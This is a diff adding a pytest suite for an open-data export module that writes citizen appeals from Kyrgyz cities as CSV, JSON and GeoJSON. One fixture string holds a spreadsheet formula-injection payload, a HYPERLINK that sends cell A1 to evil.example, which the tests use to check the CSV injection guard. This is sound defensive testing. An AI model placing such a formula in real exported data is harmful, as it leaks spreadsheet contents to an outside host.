@@ -1,0 +1,251 @@
+"""opendata.exports: the streaming writers, checked against golden files and real readers."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import random
+import tracemalloc
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from types import GeneratorType
+from zoneinfo import ZoneInfo
+
+import pytest
+
+from opendata import exports
+from opendata.schema import ANSWERS, APPEALS, PERFORMANCE, WITHDRAWN
+
+GOLDEN = Path(__file__).parent / "golden"
+UPDATE = os.environ.get("UPDATE_GOLDEN") == "1"
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click") "quoted", comma\nnew line'
+ROWS = [
+    # As SQLite returns them: timestamps are UTC strings, booleans 0/1.
+    (
+        "BSK-2026-000001", "bishkek", "leninsky", "pothole", "bsk-roads", "closed", "rated",
+        42.874613, 74.612201, 100, "2026-03-01 08:05:09.000000", "2026-03-01 10:00:00.000000",
+        None, "2026-03-05 04:30:00.123456", "2026-03-06 18:00:00.000000",
+        "2026-03-19 17:59:59.000000", 0, None, 1, 4, 0,
+        "Яма на дороге возле остановки «Ала-Тоо», машины объезжают по встречке.",
+        "Работы выполнены, яма заделана.", 5, "yes", "2026-03-06 18:00:00.000000",
+    ),
+    (
+        "BSK-2026-000002", "bishkek", None, "noise", "bsk-housing", "published", None,
+        None, None, None, "2026-03-02 20:30:00.000000", "2026-03-02 21:00:00.000000",
+        None, None, None, "2026-03-20 17:59:59.000000", 1, "Требуется закупка; «материалы»",
+        None, None, 0, HOSTILE, None, None, None, "2026-03-02 21:00:00.000000",
+    ),
+    (
+        "OSH-2026-000003", "osh", "sulaiman-too", "water_leak", "osh-vodokanal", "answered",
+        None, 40.523696, 72.78203, 500, "2026-03-03 00:00:00.000000",
+        "2026-03-03 01:00:00.000000", "2026-03-03 02:00:00.000000",
+        "2026-03-04 03:00:00.000000", None, "2026-03-21 17:59:59.000000", 0, None, 1, 1, 2,
+        "-2 градуса в квартире, +10 на улице; @акимиат", "@ответ", 2, "partly",
+        "2026-03-04 03:00:00.000000",
+    ),
+]  # fmt: skip
+
+
+def as_objects(row: tuple) -> tuple:
+    """The same row as PostgreSQL returns it: naive UTC datetimes, real booleans."""
+    out = []
+    for spec, value in zip(APPEALS.fields, row, strict=True):
+        if spec.type == "datetime" and value is not None:
+            value = datetime.fromisoformat(value)
+        elif spec.type == "boolean" and value is not None:
+            value = bool(value)
+        out.append(value)
+    return tuple(out)
+
+
+def render(fmt: str, rows, dataset=APPEALS) -> bytes:
+    return b"".join(exports.stream(fmt, dataset, rows))
+
+
+def check_golden(name: str, data: bytes) -> None:
+    path = GOLDEN / name
+    if UPDATE or not path.exists():
+        path.parent.mkdir(exist_ok=True)
+        path.write_bytes(data)
+    assert data == path.read_bytes(), f"{name} differs from its golden file"
+
+
+@pytest.mark.parametrize("fmt", list(exports.FORMATS))
+def test_golden_files(fmt):
+    check_golden(f"appeals.{exports.FORMATS[fmt].suffix}", render(fmt, ROWS))
+
+
+@pytest.mark.parametrize("fmt", list(exports.FORMATS))
+def test_sqlite_strings_and_datetime_objects_give_the_same_bytes(fmt):
+    assert render(fmt, [as_objects(r) for r in ROWS]) == render(fmt, ROWS)
+
+
+def test_aware_datetimes_are_converted_to_bishkek_time():
+    row = list(as_objects(ROWS[0]))
+    row[10] = datetime(2026, 3, 1, 8, 5, 9, tzinfo=UTC)
+    assert render("csv", [tuple(row)]) == render("csv", ROWS[:1])
+
+
+def test_csv_is_rfc4180_with_header_and_iso_datetimes():
+    data = render("csv", ROWS)
+    assert not data.startswith(exports.BOM)
+    text = data.decode("utf-8")
+    assert text.endswith("\r\n")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == list(APPEALS.names)
+    assert len(rows) == 1 + len(ROWS)
+    first = dict(zip(rows[0], rows[1], strict=True))
+    assert first["submitted_at"] == "2026-03-01T14:05:09+06:00"
+    assert first["first_answer_at"] == "2026-03-05T10:30:00+06:00"  # seconds, no fraction
+    assert first["closed_at"] == "2026-03-07T00:00:00+06:00"  # local date rolls over
+    assert first["acknowledged_at"] == ""  # missing: empty cell
+    assert first["deadline_extended"] == "false" and first["on_time"] == "true"
+    assert first["lat"] == "42.874613" and first["lon"] == "74.612201"
+
+
+def test_excel_variant_is_the_same_csv_with_a_bom():
+    assert render("excel.csv", ROWS) == exports.BOM + render("csv", ROWS)
+
+
+def test_csv_injection_guard_and_hostile_text_round_trip():
+    text = render("csv", ROWS).decode()
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert rows[1]["text"] == "'" + HOSTILE  # the formula is shown, not run
+    assert rows[2]["text"].startswith("'-2 градуса")
+    assert rows[2]["latest_answer_text"] == "'@ответ"
+    assert rows[1]["extension_reason"] == "Требуется закупка; «материалы»"  # untouched
+    # JSON keeps every text exactly as published.
+    objects = json.loads(render("json", ROWS))
+    assert objects[1]["text"] == HOSTILE
+    assert objects[2]["latest_answer_text"] == "@ответ"
+
+
+def test_geojson_is_rfc7946():
+    collection = json.loads(render("geojson", ROWS))
+    assert collection["type"] == "FeatureCollection"
+    assert "crs" not in collection
+    first, second, third = collection["features"]
+    assert first["id"] == "BSK-2026-000001"
+    assert first["geometry"] == {"type": "Point", "coordinates": [74.612201, 42.874613]}
+    assert third["geometry"]["coordinates"] == [72.78203, 40.523696]  # [lon, lat]
+    assert second["geometry"] is None  # sensitive category: no point
+    assert second["properties"]["district"] is None  # null, never ""
+    assert "lat" not in first["properties"] and "id" not in first["properties"]
+    assert first["properties"]["submitted_at"] == "2026-03-01T14:05:09+06:00"
+
+
+def test_coordinates_have_at_most_six_decimals():
+    row = list(ROWS[0])
+    row[7], row[8] = 42.87461349999, 74.61220149999
+    feature = json.loads(render("geojson", [tuple(row)]))["features"][0]
+    assert feature["geometry"]["coordinates"] == [74.612201, 42.874613]
+
+
+def test_geojsonseq_is_rfc8142():
+    data = render("geojsonseq", ROWS)
+    records = data.split(b"\x1e")
+    assert records[0] == b""
+    assert all(r.endswith(b"\n") for r in records[1:])
+    features = [json.loads(r) for r in records[1:]]
+    assert [f["id"] for f in features] == [r[0] for r in ROWS]
+
+
+def test_empty_files_are_valid():
+    assert json.loads(render("json", [])) == []
+    assert json.loads(render("geojson", []))["features"] == []
+    assert render("geojsonseq", []) == b""
+    assert render("csv", []).decode() == ",".join(APPEALS.names) + "\r\n"
+
+
+def test_geo_formats_need_a_geometry():
+    with pytest.raises(ValueError):
+        render("geojson", [], dataset=ANSWERS)
+
+
+def test_dates_and_yearmonths_in_the_performance_dataset():
+    from datetime import date
+
+    row = [None] * len(PERFORMANCE.fields)
+    row[:6] = ["bishkek", "bsk-roads", "2026-02", date(2025, 3, 1), date(2026, 2, 28), True]
+    text = render("csv", [tuple(row)], PERFORMANCE).decode()
+    assert "bishkek,bsk-roads,2026-02,2025-03-01,2026-02-28,true," in text
+    assert json.loads(render("json", [tuple(row)], PERFORMANCE))[0]["window_start"] == "2025-03-01"
+
+
+def test_local_time_matches_zoneinfo_including_old_offsets():
+    """The per-hour cache agrees with zoneinfo, also across Bishkek's offset changes."""
+    rng = random.Random(7)
+    local = exports.LocalTime()
+    tz = ZoneInfo("Asia/Bishkek")
+    start = datetime(1991, 1, 1)
+    for _ in range(3000):
+        moment = start + timedelta(seconds=rng.randrange(0, 40 * 365 * 86400))
+        expected = moment.replace(tzinfo=UTC).astimezone(tz).isoformat(timespec="seconds")
+        assert local(moment.isoformat(" ")) == expected
+    rows = [("BSK-2004-000001", "bishkek", "2004-01-15 12:00:00.000000", "withdrawn")]
+    old = render("csv", rows, WITHDRAWN).decode().splitlines()[1].split(",")[2]
+    assert old == datetime(2004, 1, 15, 12, tzinfo=UTC).astimezone(tz).isoformat()
+    assert old.endswith("+05:00")  # Bishkek was UTC+5 in winter until 2005
+
+
+def synthetic_rows(n: int):
+    base = list(ROWS[0])
+    for i in range(n):
+        base[0] = f"BSK-2026-{i:06d}"
+        yield tuple(base)
+
+
+def test_streaming_yields_bounded_chunks():
+    stream = exports.stream("csv", APPEALS, synthetic_rows(20_000))
+    assert isinstance(stream, GeneratorType)
+    sizes = [len(chunk) for chunk in stream]
+    assert len(sizes) > 10
+    assert max(sizes) < exports.CHUNK_BYTES + 2 * exports.BATCH_ROWS * 400
+
+
+@pytest.mark.parametrize("fmt", ["csv", "geojson"])
+def test_memory_does_not_grow_with_the_number_of_rows(fmt):
+    def peak(n: int) -> int:
+        tracemalloc.start()
+        for _chunk in exports.stream(fmt, APPEALS, synthetic_rows(n)):
+            pass
+        _, top = tracemalloc.get_traced_memory()
+        tracemalloc.stop()
+        return top
+
+    small, large = peak(2_500), peak(10_000)
+    assert large < small * 1.5 + 256 * 1024
+
+
+def test_pandas_round_trips_cyrillic_text(tmp_path):
+    pandas = pytest.importorskip("pandas")
+    path = tmp_path / "appeals.csv"
+    path.write_bytes(render("csv", ROWS))
+    frame = pandas.read_csv(path, dtype=str, keep_default_na=False)
+    assert list(frame.columns) == list(APPEALS.names)
+    assert frame.loc[0, "text"] == ROWS[0][21]
+    assert frame.loc[1, "extension_reason"] == "Требуется закупка; «материалы»"
+    excel = tmp_path / "appeals.excel.csv"
+    excel.write_bytes(render("excel.csv", ROWS))
+    frame = pandas.read_csv(excel, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    assert frame.columns[0] == "id" and frame.loc[0, "text"] == ROWS[0][21]
+
+
+@pytest.mark.parametrize("fmt", ["geojson", "geojsonseq", "csv"])
+def test_gdal_reads_the_files(tmp_path, fmt):
+    pyogrio = pytest.importorskip("pyogrio")
+    path = tmp_path / f"appeals.{fmt}"
+    path.write_bytes(render(fmt, ROWS))
+    options = {}
+    if fmt == "csv":
+        options = {"X_POSSIBLE_NAMES": "lon", "Y_POSSIBLE_NAMES": "lat", "AUTODETECT_TYPE": "YES"}
+    info = pyogrio.read_info(path, **options)
+    assert info["features"] == len(ROWS)
+    assert info["geometry_type"] == "Point"
+    types = dict(zip(info["fields"], info["dtypes"], strict=True))
+    assert types["reopen_count"] == "int32"
+    assert types["submitted_at"].startswith("datetime64")
+    assert types["deadline_extended"] == "bool"
